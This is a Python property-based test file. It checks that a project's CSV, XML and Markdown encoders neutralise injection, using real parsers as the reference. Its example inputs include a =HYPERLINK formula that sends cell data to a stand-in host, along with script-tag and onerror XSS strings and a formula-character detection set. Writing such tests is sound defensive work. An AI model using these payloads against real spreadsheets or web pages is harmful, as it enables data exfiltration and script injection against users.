"""Each output format's encoder makes any text safe (generator/encoders.py), checked with
generated strings against real readers: the `csv` module, expat (ElementTree) and a
CommonMark parser with GitHub's table and strikethrough extensions (markdown-it-py).

The checks here do not reuse the module's own predicates: what counts as a formula, as
XML, as one line is written out again from the formats' rules.
"""

from __future__ import annotations

import csv
import html
import io
import re
from xml.etree import ElementTree as ET

from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from generator.documents.downloads import to_csv
from generator.encoders import (
    PLAIN_STARTS,
    csv_cell,
    csv_number,
    markdown_text,
    xml_attr,
    xml_chars,
    xml_text,
)

# Characters that open a formula in Excel, LibreOffice or Google Sheets (OWASP's list, with
# the full-width forms), and the white space a spreadsheet may skip before one.
FORMULA = set("=+-@\t\r") | set("＝＋－＠")
SPACE = " \t\r\n\x0b\x0c\u00a0\u1680\u2000\u2001\u2002\u2003\u3000\u2028\u2029\x85"
# Text that tries every format's tricks, mixed with any unicode (surrogates excluded:
# Python text read from UTF-8 never holds one).
TRICKS = st.sampled_from(
    ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", " ",
     "＝", "<", ">", "&", "]]>", '"', "'", "\ufffe", "\uffff", "\x00", "\x01", "\x1b",
     "[a](b)", "![i](j)", "*", "_", "`", "~~", "#", "|", "$", "\\", "1.", "2)", "---",
     "===", "> ", "    ", "<b>", "&amp;", "@team", "<!--", "http://x.example"]
)  # fmt: skip
# No per-example deadline: the machine is shared and a slow example is not a failure here.
ENCODERS = settings(deadline=None, max_examples=300)
HOSTILE_TEXT = st.lists(st.one_of(TRICKS, st.text(max_size=8)), max_size=12).map("".join)


def _starts_formula(cell: str) -> bool:
    stripped = cell.lstrip(SPACE)
    return cell[:1] in FORMULA or stripped[:1] in FORMULA


@ENCODERS
@given(HOSTILE_TEXT)
@example('=HYPERLINK("https://evil.example/?"&A1,"x")')
@example("@SUM(1+1)")
@example(" \t=1+1")
@example("＝1+1")
def test_no_csv_cell_starts_a_formula_and_the_text_survives(text: str) -> None:
    cell = csv_cell(text)
    assert not _starts_formula(cell)
    assert cell in (text, "'" + text)
    rows = list(csv.reader(io.StringIO(to_csv(["a", "b"], [[text, "x"]]).decode(), newline="")))
    assert rows == [["a", "b"], [cell, "x"]]  # one row: a line break stays inside its cell


@ENCODERS
@given(st.sampled_from(sorted(PLAIN_STARTS)), HOSTILE_TEXT)
def test_a_text_starting_with_a_letter_or_digit_is_never_a_formula(first: str, rest: str) -> None:
    """What lets `to_csv` pass such a cell as it is: `csv_cell` would leave it unchanged."""
    text = first + rest
    assert not _starts_formula(text)
    assert csv_cell(text) == text
    rows = list(csv.reader(io.StringIO(to_csv(["a"], [[text]]).decode(), newline="")))
    assert rows == [["a"], [text]]


CELLS = st.one_of(
    HOSTILE_TEXT, st.floats(allow_nan=False, allow_infinity=False), st.integers(), st.none()
)


@ENCODERS
@given(st.lists(st.lists(CELLS, min_size=1, max_size=4), max_size=6))
def test_a_csv_file_has_one_row_per_row_and_no_formula_anywhere(
    rows: list[list[str | float | int | None]],
) -> None:
    width = max((len(row) for row in rows), default=1)
    rows = [row + [None] * (width - len(row)) for row in rows]
    text = to_csv([f"c{i}" for i in range(width)], rows).decode()
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == len(rows) + 1
    for row, read in zip(rows, parsed[1:], strict=True):
        for value, cell in zip(row, read, strict=True):
            if isinstance(value, str):
                assert not _starts_formula(cell)
            elif isinstance(value, float):
                assert float(cell) == value and cell != "-0.0"


def test_negative_zero_is_written_as_zero() -> None:
    assert csv_number(-0.0) == "0.0"
    assert csv_number(-1.5) == "-1.5"
    assert csv_number(3) == "3"


def _is_xml_char(char: str) -> bool:
    code = ord(char)
    return (
        code in (0x9, 0xA, 0xD)
        or 0x20 <= code <= 0xD7FF
        or 0xE000 <= code <= 0xFFFD
        or 0x10000 <= code <= 0x10FFFF
    )


@ENCODERS
@given(HOSTILE_TEXT)
@example("\ufffe\uffff\x00\x08")
@example("</title><script>x</script>")
@example("a]]>b\r\nc")
def test_xml_text_and_attributes_parse_back_to_the_same_xml_characters(text: str) -> None:
    clean = xml_chars(text)
    assert all(_is_xml_char(c) for c in clean)
    assert len(clean) == len(text)
    kept = [c for c in text if _is_xml_char(c) and c != "\ufffd"]
    assert [c for c in clean if c != "\ufffd"] == kept
    element = ET.fromstring(f"<a>{xml_text(text)}</a>")
    assert (element.text or "") == clean and len(element) == 0
    for quote in "\"'":
        element = ET.fromstring(f"<a b={quote}{xml_attr(text)}{quote}/>")
        assert element.attrib == {"b": clean}


MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _rendered_plain(text: str) -> str:
    """What `text` should render as: one line, its ends trimmed, `@` kept from mentioning."""
    line = re.sub("[\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]+", " ", text)
    return line.replace("\x00", "\ufffd").strip().replace("@", "@\u200b")


@ENCODERS
@given(HOSTILE_TEXT)
@example("GPT-5\n\n## forged\r\n- item")
@example("[click](https://evil.example) ![x](y) <img src=x onerror=alert(1)>")
@example("1. one")
@example("    indented code")
@example("a | b")
@example("=====")
@example("list_models a_b_c _x_ __y__")
def test_markdown_text_renders_as_exactly_the_text_on_one_line(text: str) -> None:
    out = markdown_text(text)
    assert len(out.splitlines()) <= 1 and out == out.strip()
    expected = _rendered_plain(text)
    rendered = MARKDOWN.render(out)
    escaped = html.escape(expected, quote=False).replace('"', "&quot;")
    assert rendered == (f"<p>{escaped}</p>\n" if expected else "")
    # after a line of the document's own, it adds no line and turns the line into nothing else
    document = MARKDOWN.render(f"Name:\n{out}\n")
    assert document.count("<p>") == 1 and "<h" not in document and "<hr" not in document
    # in a table cell it stays one cell
    tokens = MARKDOWN.parse(f"| a | b |\n|---|---|\n| x | {out} |\n")
    assert sum(t.type == "td_open" for t in tokens) == 2
